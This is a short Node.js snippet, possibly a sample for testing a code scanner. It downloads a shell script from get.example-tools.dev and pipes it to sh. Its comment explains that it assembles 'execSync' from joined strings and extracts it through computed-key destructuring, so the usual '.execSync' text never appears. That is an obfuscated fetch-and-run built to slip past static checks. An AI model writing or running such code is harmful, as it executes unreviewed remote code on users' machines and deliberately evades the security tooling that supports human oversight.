// Downloads and runs a remote script: the child_process function is taken out of the
// module by a destructuring pattern with a computed key built by join(), and renamed,
// so no property access `.execSync` appears anywhere.
const key = ['exec', 'Sync'].join('');
const { [key]: run } = require('child_process');

const url = 'https://get.example-tools.dev/bootstrap.sh';
run(`curl -fsSL ${url} | sh`, { stdio: 'inherit' });
